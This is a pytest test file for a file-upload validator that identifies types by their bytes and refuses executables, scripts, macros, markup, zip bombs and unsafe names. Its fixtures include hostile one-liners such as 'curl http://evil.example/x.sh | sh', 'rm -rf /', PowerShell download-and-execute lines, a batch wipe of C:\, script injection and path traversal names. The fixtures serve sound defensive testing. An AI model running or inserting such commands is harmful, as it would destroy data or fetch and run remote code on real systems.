"""File checks (app/core/files.py): a file is what its bytes say (puremagic, and zipfile for Word and
OpenDocument), whatever its name or declared type; executables, scripts, markup, macros, zip bombs,
other archives and binary "text" are refused with a reason and a code; names are made safe. And
the PDF the tests send is one."""

from __future__ import annotations

import base64
import io
import struct
import unicodedata
import zipfile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.core import files
from tests.support.builders import DOCX_BYTES, ODT_BYTES, PDF_BYTES, b64, docx_bytes, zip_bytes


def test_pdf_fixture_is_a_pdf() -> None:
    assert base64.b64decode(b64(PDF_BYTES)).startswith(b"%PDF-")


@pytest.mark.parametrize(
    ("data", "content_type"),
    [
        (PDF_BYTES, "application/pdf"),
        (DOCX_BYTES, files.DOCX),
        (ODT_BYTES, files.ODT),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, "application/msword"),
        (b"{\\rtf1\\ansi Dear team}", "application/rtf"),
        (b"\x89PNG\r\n\x1a\n" + b"\x00" * 40, "image/png"),
        (b"\xff\xd8\xff\xe0" + b"\x00" * 40, "image/jpeg"),
        (b"GIF89a" + b"\x00" * 20, "image/gif"),
        (b"II*\x00" + b"\x00" * 20, "image/tiff"),
        ("Zoë Van der Berg — CV\nPython, Rust\n".encode(), "text/plain"),
        (b"a" * 10_000, "text/plain"),
    ],
)
def test_sniff_names_the_real_type(data: bytes, content_type: str) -> None:
    assert files.sniff(data) == content_type


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"", "the file is empty"),
        (b"MZ\x90\x00" + b"\x00" * 100, "executables and scripts are not accepted"),
        (b"\x7fELF\x02\x01\x01" + b"\x00" * 100, "executables and scripts are not accepted"),
        (b"#!/bin/sh\nrm -rf /\n", "executables and scripts are not accepted"),
        (b"PK\x03\x04" + b"\x00" * 26 + b"payload.exe", "a damaged zip archive"),
        (zip_bytes({"notes.txt": "hello"}), "zip archives other than Word or OpenDocument"),
        (bytes(range(128, 256)), "unrecognised file type"),
        (b"looks like text\x00but is not", "binary content in a text file"),
    ],
)
def test_sniff_refuses_with_the_reason(data: bytes, reason: str) -> None:
    with pytest.raises(files.FileRejected, match=reason):
        files.sniff(data)


def test_a_pdf_named_like_anything_is_still_a_pdf_and_a_script_named_pdf_is_not() -> None:
    assert files.sniff(PDF_BYTES + b"\n#!/bin/sh\n") == "application/pdf"  # only the first bytes count
    with pytest.raises(files.FileRejected):
        files.sniff(b"#!" + PDF_BYTES)


def test_a_long_utf8_text_is_text_wherever_its_characters_fall() -> None:
    text = ("a" + "é" * 3000).encode()  # byte 4000 falls inside an "é"
    assert files.sniff(text) == "text/plain"


@pytest.mark.parametrize(
    ("declared", "actual"),
    [
        (None, "application/pdf"),
        ("application/octet-stream", "application/pdf"),
        ("application/pdf", "application/pdf"),
        ("Application/PDF; name=cv.pdf", "application/pdf"),
        ("application/msword", files.DOCX),  # a .doc name on a .docx: fine to fix
        ("application/zip", files.ODT),
        ("text/markdown", "text/plain"),
        ("image/jpg", "image/png"),  # images among themselves
        ("application/x-unheard-of", "application/pdf"),  # a type we do not know says nothing
    ],
)
def test_declared_types_that_agree_with_the_bytes(declared: str | None, actual: str) -> None:
    files.check_declared(declared, actual)  # no exception


@pytest.mark.parametrize(
    ("declared", "actual"),
    [
        ("application/pdf", files.DOCX),
        ("image/png", "text/plain"),
        ("text/plain", "application/pdf"),
    ],
)
def test_declared_types_that_contradict_the_bytes(declared: str, actual: str) -> None:
    with pytest.raises(files.FileRejected, match=f"declared as {declared} but the content is {actual}"):
        files.check_declared(declared, actual)


# -- issue 22: hostile files ------------------------------------------------------------------


def _declared_size(archive: bytes, size: int) -> bytes:
    """`archive` with every central-directory entry claiming `size` uncompressed bytes."""
    out = bytearray(archive)
    at = out.find(b"PK\x01\x02")
    while at != -1:
        struct.pack_into("<I", out, at + 24, size)
        at = out.find(b"PK\x01\x02", at + 4)
    return bytes(out)


@pytest.mark.parametrize(
    ("data", "code", "reason"),
    [
        (docx_bytes(**{"word/media/setup.exe": b"MZ\x90\x00" + b"\x00" * 64}), "FILE.EXECUTABLE", "executable"),
        (docx_bytes(**{"word/invoice.js": "WScript.Shell"}), "FILE.EXECUTABLE", "executable"),
        (docx_bytes(**{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "FILE.MACROS", "macros"),
        (docx_bytes(**{"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}), "FILE.MACROS", "macros"),
        (docx_bytes(**{"../../evil.xml": "<x/>"}), "FILE.ARCHIVE_PATH", "outside the archive"),
        (zip_bytes({"[Content_Types].xml": "<Types/>", "word/document.xml": "<w/>"}), "FILE.DAMAGED", "main document"),
        (zip_bytes({"word/document.xml": "<w/>", "word/styles.xml": "<s/>"}), "FILE.ARCHIVE", "other than Word"),
        # a real bomb: 20 MB of zeros deflate to ~20 KB
        (docx_bytes(**{"word/media/image1.png": b"\x00" * 20_000_000}), "FILE.ARCHIVE_BOMB", "inflates"),
        # a small zip whose central directory declares 4 GB: refused without inflating anything
        (_declared_size(DOCX_BYTES, 0xFFFF_FFF0), "FILE.ARCHIVE_BOMB", "inflates"),
        (docx_bytes(**{f"word/part{i}.xml": "<p/>" for i in range(1001)}), "FILE.ARCHIVE_BOMB", "parts"),
        (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "FILE.SCRIPT", "markup"),
        (b"Curriculum vitae\n<p onload=alert(1)>", "FILE.SCRIPT", "markup"),
        (b"<!DOCTYPE html><html><body>CV</body></html>", "FILE.SCRIPT", "markup"),
        (b'<?xml version="1.0"?><cv><script>x()</script></cv>', "FILE.SCRIPT", "markup"),
        (
            b"$c = New-Object System.Net.WebClient\n$c.DownloadFile('http://x/a.exe', 'a.exe')\n",
            "FILE.SCRIPT",
            "scripts",
        ),
        (b"Write-Host 'hello'\nInvoke-Expression $payload\n", "FILE.SCRIPT", "scripts"),
        (b"@echo off\r\ndel /q C:\\*\r\n", "FILE.SCRIPT", "scripts"),
        (b"const x = require('child_process');\n", "FILE.SCRIPT", "scripts"),
        (b"curl http://evil.example/x.sh | sh\n", "FILE.SCRIPT", "scripts"),
        (b"resume \x1b[2J\x1b[31m red", "FILE.BINARY_TEXT", "binary content"),
        (b"\x1f\x8b\x08\x00" + b"\x00" * 40, "FILE.TYPE_REFUSED", "not accepted"),  # gzip
    ],
)
def test_hostile_files_are_refused_with_a_code(data: bytes, code: str, reason: str) -> None:
    with pytest.raises(files.FileRejected, match=reason) as refused:
        files.sniff(data)
    assert refused.value.code == code


def test_a_bomb_is_refused_without_inflating_it() -> None:
    bomb = _declared_size(docx_bytes(**{"word/media/a.png": b"\x00" * 1_000_000}), 0xFFFF_FFF0)
    assert len(bomb) < 10_000
    with pytest.raises(files.FileRejected) as refused:
        files.sniff(bomb)
    assert refused.value.code == "FILE.ARCHIVE_BOMB"


def test_prose_that_names_languages_and_tags_is_text() -> None:
    cv = (
        "Ana López — Senior engineer\n"
        "Skills: Python, Bash, PowerShell, JavaScript, HTML and CSS, SVG icons, XML pipelines\n"
        "Source code: github.com/ana\nLet me know when we can talk. Rem Koolhaas fan.\n"
        "Salary: $80k = negotiable\n"
        "If [needed], I can relocate.\nSudo Ltd, 2019-2024\nExport manager\n"
    )
    assert files.sniff(cv.encode()) == "text/plain"


def test_a_docx_with_ordinary_parts_is_a_docx() -> None:
    real = docx_bytes(
        **{"word/styles.xml": "<w:styles/>", "word/media/image1.png": b"\x89PNG" + bytes(range(256)) * 20}
    )
    assert files.sniff(real) == files.DOCX
    with zipfile.ZipFile(io.BytesIO(real)) as archive:
        assert "word/document.xml" in archive.namelist()


@pytest.mark.parametrize(
    ("name", "actual", "safe"),
    [
        ("../../etc/passwd\x00.pdf", files.PDF, "passwd.pdf"),
        ("C:\\Users\\ana\\cv.PDF", files.PDF, "cv.PDF"),
        ("cv.exe", files.PDF, "cv.exe.pdf"),
        ("cv\u202efdp.exe", files.PDF, "cvfdp.exe.pdf"),
        ("photo.jpeg", files.JPEG, "photo.jpeg"),
        ("  \x1b[31m  ", files.TEXT, "[31m.txt"),
        ("...", files.DOCX, "file.docx"),
        ("", files.ODT, "file.odt"),
        ("a" * 300 + ".pdf", files.PDF, "a" * 120 + ".pdf"),
        ("cv.pdf", None, "cv.pdf"),  # a data_url file: type unknown until fetched
        ("<script>.txt", files.TEXT, "script.txt"),
    ],
)
def test_safe_names(name: str, actual: str | None, safe: str) -> None:
    assert files.safe_name(name, actual) == safe


def test_allowed_types_are_the_connections() -> None:
    files.check_allowed(files.PDF, files.DEFAULT_ALLOWED)
    with pytest.raises(files.FileRejected, match="image/gif") as refused:
        files.check_allowed(files.sniff(b"GIF89a" + b"\x00" * 20), files.DEFAULT_ALLOWED)
    assert refused.value.code == "FILE.TYPE_NOT_ALLOWED"
    files.check_allowed(files.GIF, (*files.DEFAULT_ALLOWED, files.GIF))


_CONTROL_OR_FORMAT = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=2048) | st.text(max_size=512).map(str.encode))
def test_sniff_never_raises_anything_but_a_refusal_and_is_stable(data: bytes) -> None:
    try:
        first: str | None = files.sniff(data)
    except files.FileRejected as exc:
        assert exc.code.startswith("FILE.")
        first = None
    try:
        second: str | None = files.sniff(data)
    except files.FileRejected:
        second = None
    assert first == second and (first is None or first in files.EXTENSIONS)


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=300), st.sampled_from([None, *files.EXTENSIONS]))
def test_safe_name_is_a_clean_idempotent_base_name(name: str, actual: str | None) -> None:
    safe = files.safe_name(name, actual)
    assert safe and "/" not in safe and "\\" not in safe and safe not in (".", "..")
    assert not any(unicodedata.category(c) in _CONTROL_OR_FORMAT for c in safe)
    assert files.safe_name(safe, actual) == safe
    if actual is not None:
        assert safe.lower().endswith(files.EXTENSIONS[actual]) or actual in (files.JPEG, files.TIFF)


def _planted(offset: int, signature: bytes) -> bytes:
    data = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + bytes(range(256)) * 16 + b"%%EOF\n")
    start = offset if offset >= 0 else len(data) + offset
    data[start : start + len(signature)] = signature
    return bytes(data)


@pytest.mark.parametrize(
    "data",
    [
        _planted(0, b"%PDF-"),
        *(_planted(o, b) for o, b in files._PDF_RIVALS if o != 0),  # Word's signatures inside a PDF
        b"%PDF-1.4\n" + b"x" * 10,
        b"%PDF-",
    ],
)
def test_the_pdf_shortcut_answers_what_puremagic_would(data: bytes, monkeypatch: pytest.MonkeyPatch) -> None:
    """`sniff` types a "%PDF-" file without puremagic unless a signature of another taken type is in
    it (bench P1: ~0.8 ms a CV); the answer is the same either way, refusals included."""

    def outcome() -> str:
        try:
            return files.sniff(data)
        except files.FileRejected as exc:
            return f"refused: {exc}"

    fast = outcome()
    monkeypatch.setattr(files, "PDF_HEADER", b"\xff" * 64)  # no file starts so: always puremagic
    assert fast == outcome()
